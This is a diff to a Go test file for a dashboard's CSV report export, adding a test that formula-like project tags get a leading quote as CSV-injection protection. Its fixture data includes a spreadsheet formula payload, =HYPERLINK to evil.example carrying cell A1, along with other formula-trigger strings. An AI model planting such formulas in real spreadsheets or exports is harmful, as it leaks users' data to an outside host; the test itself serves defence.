@@ -2,6 +2,7 @@ package dashboard_test
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -260,5 +261,48 @@ func TestDashboard_SignOut(t *testing.T) {
 		if st, body := replay.do(req); st != http.StatusUnauthorized || strings.Contains(body, "ann@example.com") {
 			t.Errorf("GET %s with the signed-out cookie: status %d, want 401", p, st)
 		}
+	}
+}
+
+// TestDashboard_CSVFormulaQuoted: a project tag a member chose that a
+// spreadsheet would run as a formula arrives in the CSV as text (a leading
+// quote), the same tag on the page as written; amounts stay numbers.
+func TestDashboard_CSVFormulaQuoted(t *testing.T) {
+	h := startHub(t, "", now)
+	tags := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\tx", "plain"}
+	var evs []byok.UsageEvent
+	for i, tag := range tags {
+		evs = append(evs, ev(fmt.Sprintf("c%d", i), seeded.Add(-time.Duration(i+1)*time.Hour), byok.OpenAI, byok.PayerPersonal, tag, 1_000))
+	}
+	if err := h.store.IngestUsage(context.Background(), "ann@example.com", "dev-ann", evs); err != nil {
+		t.Fatal(err)
+	}
+	admin := h.adminBrowser(t, "boss@example.com")
+	st, body := admin.get("/ui/reports.csv")
+	if st != http.StatusOK {
+		t.Fatalf("CSV: status %d", st)
+	}
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatalf("CSV does not parse: %v\n%s", err, body)
+	}
+	projects := map[string]bool{}
+	for _, rec := range recs[1:] {
+		projects[rec[4]] = true
+		if cost := rec[len(rec)-1]; cost != "0.001000" {
+			t.Errorf("cost cell %q, want the plain number 0.001000", cost)
+		}
+	}
+	for _, tag := range tags {
+		want := tag
+		if tag != "plain" {
+			want = "'" + tag
+		}
+		if !projects[want] {
+			t.Errorf("project %q: not in the CSV as %q; projects: %v", tag, want, projects)
+		}
+	}
+	if _, page := admin.get("/ui/projects"); !strings.Contains(page, "=HYPERLINK(") || strings.Contains(page, "&#39;=HYPERLINK") {
+		t.Error("the projects page should show the tag as the member wrote it")
 	}
 }
